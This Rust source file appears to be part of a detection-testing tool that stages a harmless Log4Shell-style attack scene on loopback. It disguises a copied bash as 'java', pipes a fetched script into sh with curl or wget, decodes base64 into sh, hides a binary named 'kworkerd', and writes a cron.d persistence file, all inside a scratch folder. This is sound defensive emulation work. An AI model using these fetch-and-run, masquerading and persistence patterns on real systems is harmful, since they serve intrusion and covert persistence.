//! "A Log4Shell weekend": what happens on this machine. Every step is harmless: copied Debian programs, a loopback
//! server, files below the scratch folder only.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context, Result, bail};

use crate::line::Scratch;

/// Text that our own YARA rule knows. Put together here, so that this source file is no match itself.
const MARKER: [&str; 2] = ["BEFFROI-DEMO-", "DROPPER-7f3a"];

/// What the "attacker's server" hands out: a shell script without any harm in it.
fn stage(scratch: &Path) -> String {
    let scratch = scratch.display();
    let marker = MARKER.concat();
    format!(
        "sh -c 'echo ZWNobyBiZWZmcm9pIGRlbW8K | base64 -d | sh'\n\
         mkdir -p {scratch}/.x11-cache && cp /bin/sleep {scratch}/.x11-cache/kworkerd\n\
         {scratch}/.x11-cache/kworkerd 0.2\n\
         mkdir -p {scratch}/root/etc/cron.d\n\
         printf '* * * * * root /bin/true\\n' > {scratch}/root/etc/cron.d/beffroi-demo\n\
         printf '#!/bin/sh\\n# {marker}\\nexit 0\\n' > {scratch}/dropper.sh\n"
    )
}

/// Serves `text` to every request on a loopback port until the program ends; returns the port.
fn serve(text: String) -> Result<u16> {
    let listener = TcpListener::bind("127.0.0.1:0").context("cannot listen on loopback")?;
    let port = listener.local_addr()?.port();
    std::thread::Builder::new().name("stage-server".into()).spawn(move || {
        for connection in listener.incoming().flatten() {
            let mut lines = BufReader::new(&connection).lines();
            while lines.next().is_some_and(|line| line.is_ok_and(|line| !line.is_empty())) {}
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", text.len());
            let _ = (&connection).write_all(format!("{head}{text}").as_bytes());
        }
    })?;
    Ok(port)
}

/// A copied shell with the name of a Java runtime starts a shell, which fetches and runs the stage.
pub fn weekend(scratch: &Scratch) -> Result<()> {
    let folder = scratch.path("scene");
    let bin = folder.join("opt/rendezvous/jre/bin");
    std::fs::create_dir_all(&bin)?;
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755))?;
    let java = bin.join("java");
    std::fs::copy("/bin/bash", &java).context("cannot copy /bin/bash")?;
    let port = serve(stage(&folder))?;
    let fetch =
        if Command::new("curl").arg("--version").stdout(Stdio::null()).status().is_ok() { "curl -s" } else { "wget -qO-" };
    // The trailing `true` keeps the shell alive as a parent instead of replacing itself.
    let script = format!("/bin/sh -c '{fetch} http://127.0.0.1:{port}/x.sh | sh; true'; true");
    let status =
        Command::new(&java).arg("-c").arg(script).current_dir(&folder).stdin(Stdio::null()).stdout(Stdio::null()).status()?;
    if !status.success() {
        bail!("the scene ended with {status}");
    }
    for made in ["root/etc/cron.d/beffroi-demo", "dropper.sh"] {
        if !folder.join(made).exists() {
            bail!("the scene did not make {made}: is curl or wget installed?");
        }
    }
    Ok(())
}

/// Puts a harmless program into the hidden temporary folder of [`hidden_start`].
pub fn hide_program(scratch: &Scratch) -> Result<()> {
    let folder = scratch.path("scene/.x11-cache");
    std::fs::create_dir_all(&folder)?;
    std::fs::copy("/bin/sleep", folder.join("kworkerd")).context("cannot copy /bin/sleep")?;
    Ok(())
}

/// Starts a program from a hidden temporary folder once: one more match of a rule that the scene has fired already.
pub fn hidden_start(scratch: &Scratch) -> Result<()> {
    let program = scratch.path("scene/.x11-cache/kworkerd");
    let status = Command::new(program).arg("0").stdin(Stdio::null()).status()?;
    if status.success() { Ok(()) } else { bail!("the program ended with {status}") }
}
